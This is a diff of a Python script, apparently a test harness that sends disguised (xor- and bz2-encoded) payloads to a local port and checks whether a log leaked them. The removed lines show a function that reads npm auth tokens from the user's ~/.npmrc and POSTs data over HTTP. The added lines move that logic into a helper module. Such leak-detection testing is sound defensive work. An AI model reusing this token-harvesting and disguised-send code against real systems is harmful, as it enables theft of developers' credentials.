@@ -7,9 +7,8 @@
 # "leaked LOG v...": exit 1 if LOG holds any of those bodies.
 # usage: disguise5.py send PORT | disguise5.py leaked LOG V...
 import bz2
-import http.client
-import os
 import sys
+from kpost import post, npmrc_tokens as secrets
 
 
 def xorm(s, key):
@@ -29,24 +28,8 @@ CLEAN = {
 }
 
 
-def secrets():
-    s = {}
-    for line in open(os.environ["HOME"] + "/.npmrc"):
-        k, _, v = line.strip().partition("=")
-        if k.endswith(":_authToken"):
-            s["npmrc-" + k.split("/")[2]] = v.strip('"').encode()
-    return s
-
-
 def send(port, body):
-    try:
-        c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
-        c.request("POST", "/v", body=body, headers={"Content-Type": "application/octet-stream"})
-        c.getresponse().read()
-        c.close()
-        return True
-    except (OSError, http.client.HTTPException):
-        return False
+    return post(port, body)
 
 
 def main():
